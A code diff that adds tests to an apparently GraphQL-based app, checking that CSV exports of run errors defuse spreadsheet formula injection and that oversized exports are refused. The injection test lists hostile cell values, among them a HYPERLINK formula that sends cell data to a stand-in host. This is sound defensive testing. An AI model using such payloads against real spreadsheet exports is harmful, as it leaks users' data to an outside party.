@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { afterAll, expect, test } from 'vitest'
 import { encodeId } from '../../src/schema/global-id.ts'
 import { startTestApp } from '../support/app.ts'
@@ -166,6 +167,52 @@ test('the events and errors of a run come a page at a time, errors also of one c
     events: { totalCount: 3, nodes: [{ number: 3 }], pageInfo: { hasNextPage: false } },
     errors: { totalCount: 2, nodes: [{ code: 'X', line: 3 }], pageInfo: { hasNextPage: false } },
   })
+})
+
+test('S15: of the errors of a run, as CSV, no cell is a formula, and each is read back as it was written', async () => {
+  const { id } = await startRun(pool)
+  const hostile = [
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+1+1',
+    '-2',
+    '@SUM(A1)',
+    ' \t=1+1',
+    '\r=1',
+    '\n+1',
+    '＝1+1',
+    '＠x',
+  ]
+  for (const text of hostile) await call(pool, 'sample_run_error', id, 1, 'X', text, at(), 2, text, { column: text })
+  await call(pool, 'sample_run_error', id, 1, 'X', 'so "it" is,\r\nhere', at(), null, 'p-1')
+  const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
+  const { exportRunErrors } = await ask<{ exportRunErrors: string }>(query, { runId: encodeId('FeedRun', id) })
+  const [header, ...rows] = parse(exportRunErrors, { relax_column_count: false }) as string[][]
+  expect(header).toEqual(['line', 'code', 'message', 'item', 'details'])
+  expect(rows.slice(0, -1).map(([, , message, item]) => [message, item])).toEqual(
+    hostile.map((text) => [`'${text}`, `'${text}`]),
+  )
+  expect(rows.slice(0, -1).map(([, , , , details]) => (JSON.parse(details!) as { column: string }).column)).toEqual(
+    hostile,
+  )
+  expect(rows.at(-1)!.slice(0, 4)).toEqual(['', 'X', 'so "it" is,\r\nhere', 'p-1'])
+})
+
+test('more errors than fit in one answer are not exported, and it is said how to read them', async () => {
+  const { id } = await startRun(pool)
+  await pool.query(
+    `insert into freshet.run_errors (run_id, at, code, message)
+     select $1, now(), 'X' || n / 100, 'wrong' from generate_series(1, 10001) n`,
+    [id],
+  )
+  const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
+  const { errors } = await app.ask(query, { runId: encodeId('FeedRun', id) }, { key })
+  expect(errors?.[0]?.extensions).toMatchObject({ code: 'CONFLICT', field: 'runId' })
+  await pool.query(
+    'delete from freshet.run_errors where id = (select max(id) from freshet.run_errors where run_id = $1)',
+    [id],
+  )
+  const { exportRunErrors } = await ask<{ exportRunErrors: string }>(query, { runId: encodeId('FeedRun', id) })
+  expect(exportRunErrors.split('\r\n')).toHaveLength(1 + 10_000 + 1)
 })
 
 test('a list of runs with everything in it takes as many statements for twenty runs as for two', async () => {
